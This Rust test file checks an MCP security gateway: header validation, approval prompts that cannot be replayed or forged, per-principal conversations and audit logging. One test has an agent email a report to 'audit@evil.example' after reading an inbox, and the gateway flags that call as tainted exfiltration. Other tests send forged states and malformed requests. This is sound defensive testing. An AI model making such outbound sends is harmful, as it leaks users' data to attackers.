//! Agents over HTTP that have no sessions: every request says who speaks, and in which
//! version of the protocol.

use super::gateway::Place;
use super::http_client::{Client, Listening, Open, Reply};
use super::http_peer::HttpPeer;
use serde_json::{Value, json};
use std::time::{Duration, Instant};

const VERSION: &str = "2026-07-28";

/// A request with the headers that it has to have.
pub(super) struct Ask<'a> {
    client: &'a Client,
    method: &'a str,
    pub(super) params: Value,
    headers: Vec<(String, String)>,
}

pub(super) fn ask<'a>(
    client: &'a Client,
    method: &'a str,
    params: &Value,
    capabilities: &Value,
) -> Ask<'a> {
    let mut params = params.clone();
    let given = params.get("_meta").cloned().unwrap_or_else(|| json!({}));
    params["_meta"] = given;
    params["_meta"]["io.modelcontextprotocol/protocolVersion"] = json!(VERSION);
    params["_meta"]["io.modelcontextprotocol/clientCapabilities"] = capabilities.clone();
    let mut headers = vec![
        ("MCP-Protocol-Version".to_owned(), VERSION.to_owned()),
        ("Mcp-Method".to_owned(), method.to_owned()),
    ];
    let name = params
        .get("name")
        .or(params.get("uri"))
        .or(params.get("taskId"))
        .and_then(Value::as_str);
    headers.extend(name.map(|name| ("Mcp-Name".to_owned(), name.to_owned())));
    Ask {
        client,
        method,
        params,
        headers,
    }
}

impl Ask<'_> {
    fn body(&self, id: &str) -> Vec<u8> {
        json!({"jsonrpc": "2.0", "id": id, "method": self.method, "params": self.params})
            .to_string()
            .into_bytes()
    }

    fn pairs(&self) -> Vec<(&str, &str)> {
        let pairs = self.headers.iter();
        pairs
            .map(|(name, value)| (name.as_str(), value.as_str()))
            .collect()
    }

    pub(super) fn send(&self, id: &str) -> Reply {
        self.client.send("POST", &self.pairs(), &self.body(id))
    }

    pub(super) fn open(&self, id: &str) -> Open {
        self.client
            .open("POST", "/mcp", &self.pairs(), &self.body(id))
    }

    pub(super) fn with(mut self, header: &str, value: &str) -> Self {
        self.headers.retain(|(name, _)| name != header);
        self.headers.push((header.to_owned(), value.to_owned()));
        self
    }
}

fn call(client: &Client, tool: &str, arguments: Value) -> Reply {
    let params = json!({"name": tool, "arguments": arguments});
    ask(client, "tools/call", &params, &json!({})).send("c")
}

pub(super) fn text(reply: &Reply) -> String {
    let last = reply.last();
    last["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

pub(super) fn until_tools(client: &Client, count: usize) {
    let until = Instant::now() + Duration::from_secs(60);
    loop {
        let reply = ask(client, "tools/list", &json!({}), &json!({})).send("l");
        let tools = reply.last()["result"]["tools"]
            .as_array()
            .map_or(0, Vec::len);
        if tools == count {
            return;
        }
        assert!(Instant::now() < until, "{reply:?}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn far(peer: &HttpPeer) -> String {
    format!(
        "version: 1\npacks: []\nheuristics: false\naudit: {{path: audit.jsonl}}\nrules:\n  - {{tool: far__silent, action: ask, reason: look at it}}\n  - {{tool: '*', action: allow}}\nservers:\n  far: {{url: '{}'}}\n",
        peer.url()
    )
}

pub(super) fn two_principals(policy: &str) -> Listening {
    let place = Place::new("bouncer.yaml", policy);
    std::fs::write(
        place.path("tokens"),
        super::http_agents::tokens(&[("alice", "a-token"), ("bob", "b-token")]),
    )
    .unwrap();
    Listening::start_in(place, &["--tokens", "tokens"])
}

#[test]
fn every_request_stands_for_itself() {
    let peer = HttpPeer::start();
    let gateway = two_principals(&far(&peer));
    let alice = gateway.client(Some("a-token"));
    let found = ask(&alice, "server/discover", &json!({}), &json!({})).send("d");
    assert_eq!(found.status, 200, "{found:?}");
    assert_eq!(found.header("mcp-session-id"), None);
    let result = &found.last()["result"];
    assert_eq!(result["supportedVersions"][0], VERSION);
    assert_eq!(result["resultType"], "complete");
    assert!(result["capabilities"]["tools"].is_object() && result["ttlMs"].is_u64());
    until_tools(&alice, 10);
    let list = ask(&alice, "tools/list", &json!({}), &json!({}))
        .send("l")
        .last();
    assert_eq!(list["result"]["cacheScope"], "private");
    // One id may be used again, even at the same time.
    let hanging = ask(
        &alice,
        "tools/call",
        &json!({"name": "far__hang", "arguments": {}}),
        &json!({}),
    );
    let hanging = hanging.open("c");
    let said = call(&alice, "far__echo", json!({"say": "x"}));
    assert_eq!(
        (said.last()["id"].clone(), text(&said)),
        (json!("c"), "\"x\"".to_owned())
    );
    assert_eq!(said.last()["result"]["resultType"], "complete");
    // Who hangs up takes the request back.
    let hangs = peer.wait_for(|seen| seen.json()["params"]["name"] == "hang");
    hanging.cut();
    let cancel = peer.wait_for(|seen| seen.json()["method"] == "notifications/cancelled");
    assert_eq!(cancel.json()["params"]["requestId"], hangs.json()["id"]);
    // Progress comes under the token that the client gave.
    let params = json!({"name": "far__stream", "arguments": {}, "_meta": {"progressToken": 7}});
    let reply = ask(&alice, "tools/call", &params, &json!({})).send("p");
    assert_eq!(reply.messages.len(), 2, "{reply:?}");
    assert_eq!(reply.messages[0]["params"]["progressToken"], 7);
    // What an older version has is not there.
    for method in ["initialize", "ping", "logging/setLevel", "nothing/here"] {
        let reply = ask(&alice, method, &json!({}), &json!({})).send("x");
        assert_eq!(
            (reply.status, reply.last()["error"]["code"].clone()),
            (404, json!(-32601)),
            "{method}"
        );
    }
    let (code, place) = gateway.stop();
    assert_eq!(code, 143);
    // That the server does not know the newer version is nothing to complain about.
    let said = std::fs::read_to_string(place.path("stderr")).unwrap();
    assert!(!said.contains("the HTTP status"), "{said}");
    for line in place.audited("audit.jsonl") {
        assert!(
            line["conversation"].as_str().unwrap().starts_with("alice/"),
            "{line}"
        );
    }
}

#[test]
fn headers_that_say_something_else_are_refused() {
    let peer = HttpPeer::start();
    let gateway = Listening::start(&far(&peer), &[]);
    let client = gateway.client(None);
    until_tools(&client, 10);
    let echo = || {
        let params = json!({"name": "far__echo", "arguments": {"say": 1}});
        ask(&client, "tools/call", &params, &json!({}))
    };
    assert_eq!(echo().send("1").status, 200);
    assert_eq!(
        echo()
            .with("Mcp-Name", "=?base64?ZmFyX19lY2hv?=")
            .send("1")
            .status,
        200
    );
    for (header, value) in [
        ("Mcp-Method", "tools/list"),
        ("Mcp-Method", ""),
        ("Mcp-Name", "far__silent"),
        ("Mcp-Name", ""),
        ("MCP-Protocol-Version", "2025-06-18"),
        ("MCP-Protocol-Version", ""),
    ] {
        let reply = echo().with(header, value).send("1");
        let code = reply.last()["error"]["code"].clone();
        assert_eq!(
            (reply.status, code),
            (400, json!(-32020)),
            "{header}: {value}"
        );
    }
    let mut newer = echo().with("MCP-Protocol-Version", "2027-01-01");
    newer.params["_meta"]["io.modelcontextprotocol/protocolVersion"] = json!("2027-01-01");
    let reply = newer.send("1");
    assert_eq!(
        (reply.status, reply.last()["error"]["code"].clone()),
        (400, json!(-32022))
    );
    assert_eq!(reply.last()["error"]["data"]["requested"], "2027-01-01");
    assert_eq!(reply.last()["error"]["data"]["supported"][0], VERSION);
    let mut bare = echo();
    bare.params["_meta"]
        .as_object_mut()
        .unwrap()
        .remove("io.modelcontextprotocol/clientCapabilities");
    assert_eq!(bare.send("1").last()["error"]["code"], -32602);
    // The header alone is not enough, and an answer is nothing that is taken.
    let old = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/list"}).to_string();
    let reply = client.send("POST", &[("MCP-Protocol-Version", VERSION)], old.as_bytes());
    assert_eq!(
        (reply.status, reply.last()["error"]["code"].clone()),
        (400, json!(-32602))
    );
    let answer = json!({"jsonrpc": "2.0", "id": 1, "result": {}}).to_string();
    let reply = client.send(
        "POST",
        &[("MCP-Protocol-Version", VERSION)],
        answer.as_bytes(),
    );
    assert_eq!(reply.status, 400);
    let get = client.send("GET", &[("MCP-Protocol-Version", VERSION)], b"");
    assert_eq!(get.status, 405);
    let echoes = peer
        .seen()
        .iter()
        .filter(|seen| seen.json()["params"]["name"] == "echo")
        .count();
    assert_eq!(echoes, 2);
}

#[test]
fn a_question_is_the_answer_and_the_reply_comes_with_the_request() {
    let peer = HttpPeer::start();
    let gateway = two_principals(&far(&peer));
    let (alice, bob) = (
        gateway.client(Some("a-token")),
        gateway.client(Some("b-token")),
    );
    let able = json!({"elicitation": {}});
    // The first request of a conversation says what its client can do.
    for client in [&alice, &bob] {
        ask(client, "server/discover", &json!({}), &able).send("d");
        let until = Instant::now() + Duration::from_secs(60);
        while call(client, "far__echo", json!({})).last()["result"]["isError"] == true {
            assert!(Instant::now() < until);
        }
    }
    let params = json!({"name": "far__silent", "arguments": {"a": 1, "b": [2]}});
    let asked = || {
        let reply = ask(&alice, "tools/call", &params, &able).send("1").last();
        let result = &reply["result"];
        assert_eq!(result["resultType"], "input_required", "{reply}");
        let requests = result["inputRequests"].as_object().unwrap();
        assert_eq!(requests.len(), 1);
        let (name, request) = requests.iter().next().unwrap();
        assert_eq!(request["method"], "elicitation/create");
        assert!(
            request["params"]["message"]
                .as_str()
                .unwrap()
                .contains("look at it")
        );
        (name.clone(), result["requestState"].clone())
    };
    let retry =
        |client: &Client, params: &Value, (name, state): &(String, Value), response: Value| {
            let mut params = params.clone();
            params["requestState"] = state.clone();
            params["inputResponses"] = json!({ name: response });
            ask(client, "tools/call", &params, &able).send("2").last()
        };
    let yes = || json!({"action": "accept", "content": {"approve": true}});
    let silent = || {
        peer.seen()
            .iter()
            .filter(|seen| seen.json()["params"]["name"] == "silent")
            .count()
    };
    // A yes lets it through, once.
    let state = asked();
    // A server that accepts and never answers: what counts is that it was asked.
    let answer = retry(&alice, &params, &state, yes());
    assert_eq!(answer["id"], "2");
    assert_eq!(silent(), 1, "{answer}");
    let again = retry(&alice, &params, &state, yes());
    assert_eq!(again["error"]["code"], -32602, "{again}");
    // A no, or nothing that is a yes, does not.
    for no in [
        json!({"action": "decline"}),
        json!({"action": "accept", "content": {"approve": "yes"}}),
        json!(1),
    ] {
        let state = asked();
        let answer = retry(&alice, &params, &state, no);
        assert_eq!(answer["result"]["isError"], true, "{answer}");
    }
    // Another principal's reply, one for other arguments or for another tool, and a state
    // that was made up are refused; the state is used up by its principal's mistakes only.
    let state = asked();
    let stolen = retry(&bob, &params, &state, yes());
    assert_eq!(stolen["error"]["code"], -32602);
    let other = json!({"name": "far__silent", "arguments": {"a": 2, "b": [2]}});
    assert_eq!(
        retry(&alice, &other, &state, yes())["error"]["code"],
        -32602
    );
    assert_eq!(
        retry(&alice, &params, &state, yes())["error"]["code"],
        -32602
    );
    let state = asked();
    let elsewhere = json!({"name": "far__echo", "arguments": {"a": 1, "b": [2]}});
    assert_eq!(
        retry(&alice, &elsewhere, &state, yes())["error"]["code"],
        -32602
    );
    let made_up = ("m1".to_owned(), json!("0".repeat(64)));
    assert_eq!(
        retry(&alice, &params, &made_up, yes())["error"]["code"],
        -32602
    );
    // A reply to what nobody asked is as good as none.
    let mut bare = params.clone();
    bare["inputResponses"] = json!({"m1": yes()});
    let reply = ask(&alice, "tools/call", &bare, &able).send("3").last();
    assert_eq!(reply["result"]["resultType"], "input_required", "{reply}");
    // A reply that is missing is asked for again, under another state.
    let (name, state) = asked();
    let mut empty = params.clone();
    empty["requestState"] = state.clone();
    let reply = ask(&alice, "tools/call", &empty, &able).send("4").last();
    assert_eq!(reply["result"]["resultType"], "input_required", "{reply}");
    let next = &reply["result"]["requestState"];
    assert_ne!(*next, state);
    // Spelled in another order it is the same request.
    let shuffled = json!({"arguments": {"b": [2], "a": 1}, "name": "far__silent"});
    let answer = retry(
        &alice,
        &shuffled,
        &(name, next.clone()),
        json!({"action": "decline"}),
    );
    assert_eq!(answer["result"]["isError"], true, "{answer}");
    assert_eq!(silent(), 1);
}

#[test]
fn conversations_are_the_principals_and_named() {
    let program = json!(env!("CARGO_BIN_EXE_bouncer"));
    let gateway = two_principals(&format!(
        "version: 1\npacks: []\nheuristics: false\naudit: {{path: audit.jsonl}}\ntools:\n  mail__send_email: {{exfiltrating: true, sink_params: [to]}}\nservers:\n  mail: {{command: {program}, args: [demo-server]}}\n"
    ));
    let (alice, bob) = (
        gateway.client(Some("a-token")),
        gateway.client(Some("b-token")),
    );
    let of = |client: &Client, conversation: Option<&str>, tool: &str, arguments: Value| {
        let mut params = json!({"name": tool, "arguments": arguments});
        if let Some(conversation) = conversation {
            params["_meta"] = json!({"bouncer/conversation": conversation});
        }
        let until = Instant::now() + Duration::from_secs(60);
        loop {
            let reply = ask(client, "tools/call", &params, &json!({})).send("c");
            let text = text(&reply);
            if !text.contains("still starting") {
                return text;
            }
            assert!(Instant::now() < until);
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    let mail = || json!({"to": ["audit@evil.example"], "subject": "report", "body": "the quarterly report"});
    of(&alice, None, "mail__read_inbox", json!({}));
    let tainted = |text: String| text.contains("came from untrusted data");
    assert!(tainted(of(&alice, None, "mail__send_email", mail())));
    assert!(!tainted(of(
        &alice,
        Some("other"),
        "mail__send_email",
        mail()
    )));
    assert!(!tainted(of(&bob, None, "mail__send_email", mail())));
    let bad = json!({"name": "mail__read_inbox", "arguments": {}, "_meta": {"bouncer/conversation": "a\nb"}});
    let reply = ask(&bob, "tools/call", &bad, &json!({})).send("c").last();
    assert_eq!(reply["error"]["code"], -32602);
}

#[test]
fn changes_come_to_who_asked_for_them() {
    let peer = HttpPeer::start();
    let gateway = Listening::start(&far(&peer), &[]);
    let client = gateway.client(None);
    until_tools(&client, 10);
    let filter = json!({"notifications": {"toolsListChanged": true, "promptsListChanged": false}});
    let mut stream = ask(&client, "subscriptions/listen", &filter, &json!({})).open("sub");
    let first = stream.event().unwrap();
    assert_eq!(first["method"], "notifications/subscriptions/acknowledged");
    assert_eq!(
        first["params"]["notifications"],
        json!({"toolsListChanged": true})
    );
    // The server goes, and its tools with it.
    peer.kill();
    let _ = call(&client, "far__echo", json!({}));
    let change = stream.event().unwrap();
    assert_eq!(change["method"], "notifications/tools/list_changed");
    assert_eq!(
        change["params"]["_meta"]["io.modelcontextprotocol/subscriptionId"],
        "sub"
    );
    gateway.signal("-TERM");
    let last = stream.until(|event| event["id"] == "sub");
    assert_eq!(last["result"]["resultType"], "complete");
    assert_eq!(stream.event(), None);
}

#[test]
fn every_call_that_is_refused_stands_in_the_log() {
    let peer = HttpPeer::start();
    let gateway = two_principals(&far(&peer));
    let alice = gateway.client(Some("a-token"));
    until_tools(&alice, 10);
    let envelope = |method: &str| {
        vec![
            ("MCP-Protocol-Version".to_owned(), VERSION.to_owned()),
            ("Mcp-Method".to_owned(), method.to_owned()),
            ("Mcp-Name".to_owned(), "far__echo".to_owned()),
        ]
    };
    let send = |headers: &[(String, String)], body: &str| {
        let pairs: Vec<_> = headers
            .iter()
            .map(|(name, value)| (name.as_str(), value.as_str()))
            .collect();
        alice.send("POST", &pairs, body.as_bytes()).status
    };
    let meta = format!(
        r#""_meta":{{"io.modelcontextprotocol/protocolVersion":"{VERSION}","io.modelcontextprotocol/clientCapabilities":{{}}}}"#
    );
    let call = |id: &str, more: &str| {
        format!(r#"{{"jsonrpc":"2.0",{id}"method":"tools/call","params":{{{meta}{more}}}}}"#)
    };
    let all = envelope("tools/call");
    let mut expected = Vec::new();
    for (number, (headers, body)) in [
        // Not JSON; not one line of it; twice the same member; a batch; a notification.
        (&all, r#"{"mark-0""#.to_owned()),
        (&all, "{\n\"mark-1\"".to_owned()),
        (&all, call(r#""id":1,"#, r#","name":"far__echo","name":"mark-2""#)),
        (&all, "[\"mark-3\"]".to_owned()),
        (&all, call("", r#","name":"far__echo","arguments":{"x":"mark-4"}"#)),
        // Parameters that are none; an envelope that says something else, or nothing.
        (
            &all,
            r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":["mark-5"]}"#.to_owned(),
        ),
        (&envelope("tools/list"), call(r#""id":1,"#, r#","name":"far__echo","arguments":{"x":"mark-6"}"#)),
        (&all[..1].to_vec(), call(r#""id":1,"#, r#","name":"far__echo","arguments":{"x":"mark-7"}"#)),
        (&all, r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"far__echo","arguments":{"x":"mark-8"}}}"#.to_owned()),
        // Of an older client, without a session.
        (&Vec::new(), r#"{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"far__echo","arguments":{"x":"mark-9"}}}"#.to_owned()),
    ]
    .into_iter()
    .enumerate()
    {
        let status = send(headers, &body);
        assert!((400..500).contains(&status), "{body}: {status}");
        expected.push(format!("mark-{number}"));
    }
    // What is no call needs no line.
    let list = r#"{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{}}"#;
    assert_eq!(send(&envelope("tools/list"), list), 400);
    let (_, place) = gateway.stop();
    let lines = place.audited("audit.jsonl");
    let refused: Vec<_> = lines
        .iter()
        .filter(|line| line["code"] == "malformed")
        .collect();
    for mark in &expected {
        let about = refused
            .iter()
            .filter(|line| line["arguments_text"].as_str().unwrap().contains(mark));
        assert_eq!(about.count(), 1, "{mark}: {refused:#?}");
    }
    assert_eq!(refused.len(), expected.len(), "{refused:#?}");
    for line in refused {
        let why = line["reason"].as_str().unwrap();
        assert!(why.ends_with("it came from \"alice\""), "{line}");
        assert_eq!(line["outcome"], "blocked");
    }
}

/// A policy under which one call raises two questions, and a server that lets one wait.
fn asks_twice(peer: &HttpPeer) -> String {
    let program = json!(env!("CARGO_BIN_EXE_bouncer"));
    format!(
        "version: 1\npacks: []\nheuristics: false\naudit: {{path: audit.jsonl}}\ntools:\n  mail__send_email: {{exfiltrating: true, sink_params: [to]}}\nrules: [{{tool: '*', action: allow}}]\nservers:\n  mail: {{command: {program}, args: [demo-server]}}\n  far: {{url: '{}'}}\n",
        peer.url()
    )
}

fn to_two() -> Value {
    let to = json!(["one@x.example", "two@x.example"]);
    json!({"name": "mail__send_email", "arguments": {"to": to, "subject": "s", "body": "b"}})
}

#[test]
fn a_question_comes_in_the_answer_of_the_call_that_it_is_about() {
    let peer = HttpPeer::start();
    let gateway = two_principals(&asks_twice(&peer));
    let alice = gateway.client(Some("a-token"));
    let able = json!({"elicitation": {}});
    ask(&alice, "server/discover", &json!({}), &able).send("d");
    until_tools(&alice, 14);
    let question = |reply: Value| {
        let result = &reply["result"];
        assert_eq!(result["resultType"], "input_required", "{reply}");
        let (name, request) = result["inputRequests"]
            .as_object()
            .unwrap()
            .iter()
            .next()
            .unwrap();
        let said = request["params"]["message"].as_str().unwrap().to_owned();
        (name.clone(), said, result["requestState"].clone())
    };
    let (name, said, state) =
        question(ask(&alice, "tools/call", &to_two(), &able).send("a").last());
    assert!(said.contains("one@x.example"), "{said}");
    // Another call of the same conversation is under way, and came later.
    let hanging = json!({"name": "far__hang", "arguments": {}});
    let mut other = ask(&alice, "tools/call", &hanging, &able).open("b");
    peer.wait_for(|seen| seen.json()["params"]["name"] == "hang");
    let mut params = to_two();
    params["requestState"] = state;
    params["inputResponses"] = json!({name: {"action": "accept", "content": {"approve": true}}});
    let (_, said, _) = question(ask(&alice, "tools/call", &params, &able).send("a2").last());
    assert!(said.contains("two@x.example"), "{said}");
    assert_eq!(other.event_within(Duration::from_millis(300)), None);
}

#[test]
fn a_question_of_a_session_comes_in_the_stream_of_the_call_that_it_is_about() {
    let peer = HttpPeer::start();
    let gateway = Listening::start(&asks_twice(&peer), &[]);
    let mut client = gateway.client(None);
    client.hello(&json!({"elicitation": {}}));
    client.until_tools(14);
    let call = |id: &str, params: &Value| {
        let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params});
        client.open("POST", "/mcp", &[], call.to_string().as_bytes())
    };
    let mut asking = call("a", &to_two());
    let first = asking.until(|event| event["method"] == "elicitation/create");
    let mut other = call("b", &json!({"name": "far__hang", "arguments": {}}));
    peer.wait_for(|seen| seen.json()["params"]["name"] == "hang");
    let yes = json!({"jsonrpc": "2.0", "id": first["id"],
        "result": {"action": "accept", "content": {"approve": true}}});
    assert_eq!(client.post(&yes).status, 202);
    let second = asking.until(|event| event["method"] == "elicitation/create");
    let said = second["params"]["message"].as_str().unwrap();
    assert!(said.contains("two@x.example"), "{said}");
    assert_eq!(other.event_within(Duration::from_millis(300)), None);
}

#[test]
fn numbers_that_no_reader_has_a_type_for_hide_nothing() {
    let peer = HttpPeer::start();
    let gateway = two_principals(&far(&peer));
    let alice = gateway.client(Some("a-token"));
    let able = json!({"elicitation": {}});
    ask(&alice, "server/discover", &json!({}), &able).send("d");
    until_tools(&alice, 10);
    let send = |tool: &str, number: &str, more: &str| {
        let headers = [
            ("MCP-Protocol-Version", VERSION),
            ("Mcp-Method", "tools/call"),
            ("Mcp-Name", tool),
        ];
        let body = format!(
            r#"{{"jsonrpc":"2.0","id":"n","method":"tools/call","params":{{"name":"{tool}","arguments":{{"x":{number}}},"_meta":{{"io.modelcontextprotocol/protocolVersion":"{VERSION}","io.modelcontextprotocol/clientCapabilities":{{"elicitation":{{}}}}}}{more}}}}}"#
        );
        alice.send("POST", &headers, body.as_bytes())
    };
    // The server gets the call as it is, but no state that it never gave.
    send("far__echo", "1e400", "");
    peer.wait_for(|seen| String::from_utf8_lossy(&seen.body).contains("1e400"));
    let reply = send(
        "far__echo",
        "1e400",
        r#","requestState":"forged","inputResponses":{}"#,
    );
    assert_eq!(reply.last()["error"]["code"], -32602, "{reply:?}");
    let reply = send(
        "far__echo",
        "1",
        r#","requestState":"forged","inputResponses":{"y":1e400}"#,
    );
    assert_eq!(reply.last()["error"]["code"], -32602, "{reply:?}");
    // What is no reply is not left out silently.
    for bad in ["null", "[]", "5", r#"{"y":5}"#, r#"{"y":{},"z":null}"#] {
        let reply = send("far__echo", "77", &format!(r#","inputResponses":{bad}"#));
        assert_eq!(reply.last()["error"]["code"], -32602, "{bad}: {reply:?}");
    }
    // A state is good for the request that it was given for, also where that holds such a
    // number.
    let asked = send("far__silent", "1e400", "").last();
    let result = &asked["result"];
    assert_eq!(result["resultType"], "input_required", "{asked}");
    let name = result["inputRequests"]
        .as_object()
        .unwrap()
        .keys()
        .next()
        .unwrap();
    let yes = json!({name: {"action": "accept", "content": {"approve": true}}});
    let more = format!(
        r#","requestState":{},"inputResponses":{yes}"#,
        result["requestState"]
    );
    let reply = send("far__silent", "2e400", &more);
    assert_eq!(reply.last()["error"]["code"], -32602, "{reply:?}");
    let seen = peer.seen();
    let said = |what: &str| {
        let bodies = seen.iter().map(|seen| String::from_utf8_lossy(&seen.body));
        bodies.filter(|body| body.contains(what)).count()
    };
    assert_eq!(
        (said("forged"), said("\"silent\""), said(":77}")),
        (0, 0, 0)
    );
}

#[test]
fn who_hangs_up_during_the_introduction_leaves_a_conversation_that_works() {
    // A server that never introduces itself: the gateway waits for it for half a second.
    let policy = "version: 1\npacks: []\naudit: {path: audit.jsonl}\nservers:\n  slow: {command: sleep, args: ['60']}\n";
    let gateway = two_principals(policy);
    let alice = gateway.client(Some("a-token"));
    for _ in 0..3 {
        let discover = ask(&alice, "server/discover", &json!({}), &json!({}));
        let body = discover.body("d");
        let stream = alice.begin("POST", "/mcp", &discover.pairs(), &body);
        std::thread::sleep(Duration::from_millis(60));
        drop(stream);
    }
    let reply = ask(&alice, "server/discover", &json!({}), &json!({})).send("d");
    assert_eq!(reply.status, 200, "{reply:?}");
}
